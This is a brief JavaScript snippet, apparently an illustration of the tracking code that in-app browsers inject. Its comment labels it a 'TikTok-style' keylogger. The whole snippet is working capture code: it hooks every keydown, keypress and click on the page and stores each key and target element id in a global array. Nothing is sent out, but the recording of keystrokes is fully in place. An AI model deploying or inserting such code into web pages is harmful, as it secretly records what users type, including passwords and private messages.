// A "TikTok-style" injected keylogger: subscribes to every keystroke and tap
// on the document and keeps what it sees.
window.__captured = [];
const log = (e) => window.__captured.push(`${e.type}:${e.key ?? ''}:${e.target && e.target.id}`);
document.addEventListener('keydown', log, true);
document.addEventListener('keypress', log);
document.addEventListener('click', log, { capture: true, passive: true });
window.__tiktokRegistered = true;
